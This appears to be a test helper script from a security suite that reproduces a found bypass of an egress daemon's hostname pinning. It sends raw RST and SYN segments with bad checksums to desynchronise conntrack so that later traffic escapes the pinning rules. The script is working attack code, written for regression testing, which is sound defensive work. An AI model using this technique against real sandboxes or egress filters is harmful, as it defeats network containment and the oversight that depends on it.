"""Hostname pinning's conntrack-resync attack (test_pinning_attacks.py; found in an attack review,
2026-12-06), as a sandbox process with Docker's NET_RAW runs it: a real TCP connection to
ADDR:PORT, no bytes sent; then a raw RST with a bad TCP checksum (conntrack in OUTPUT takes it:
the entry closes; the server drops it), then a raw SYN with a bad checksum on the same
four-tuple (conntrack kills the closed entry and makes a new SYN_SENT one; the server drops it).
The socket's next data segment is then an ACK in SYN_SENT: conntrack calls it invalid and gives
it no entry, so no ct mark, and egressd's pinning rules, which all ask for one, used to let it
fall to the learned set's rule and pass by address, unread.

Usage: ct_resync_attacker.py ADDR PORT HOST MODE   (MODE: none = the control, rst_syn = the attack)
Prints READY, then one JSON line: "answer" holds what the server answered (HTTP: its response;
TLS on 8443: its answer to b"sni?"), "error" what failed."""
import json, socket, sys
from rawtcp import sniffer, synack, tcp

addr, port, host, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
V6 = ":" in addr

pk = sniffer(V6)
print("READY", flush=True)
s = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3.0)
s.connect((addr, port))
lport = s.getsockname()[1]
# find the SYN-ACK
got = synack(pk, V6, port, lport)
srv_isn1, cli_isn1 = ((got[0] + 1) & 0xffffffff, got[1]) if got else (None, None)
res = {"lport": lport, "cli": cli_isn1, "srv": srv_isn1}
if cli_isn1 is None:
    print(json.dumps({**res, "err": "no synack"})); sys.exit(0)
srv_next = srv_isn1
cli_next = cli_isn1
raw = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
src = s.getsockname()[0]
# Conntrack takes each raw segment in the sendto() that writes it (its OUTPUT hook runs before
# any queue), so the entry is closed, then new, before the socket's next segment: no waiting.
if mode in ("rst_syn", "rst_only"):
    raw.sendto(tcp(src, addr, lport, port, cli_next, srv_next, 0x14, good=False), (addr, 0))  # RST|ACK, bad csum
if mode in ("rst_syn", "syn_only"):
    raw.sendto(tcp(src, addr, lport, port, (cli_next + 100000) & 0xffffffff, 0, 0x02, good=False), (addr, 0))  # SYN, bad csum
if port == 8443:
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname=host)
        t.sendall(b"sni?")
        res["answer"] = t.recv(100).decode(errors="replace")
    except Exception as e:
        res["error"] = repr(e)
    print(json.dumps(res), flush=True); sys.exit(0)
req = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host).encode()
try:
    s.sendall(req)
    data = b""
    while b"host=" not in data:
        c = s.recv(4096)
        if not c: break
        data += c
    res["answer"] = data.decode(errors="replace")
except Exception as e:
    res["error"] = repr(e)
print(json.dumps(res), flush=True)
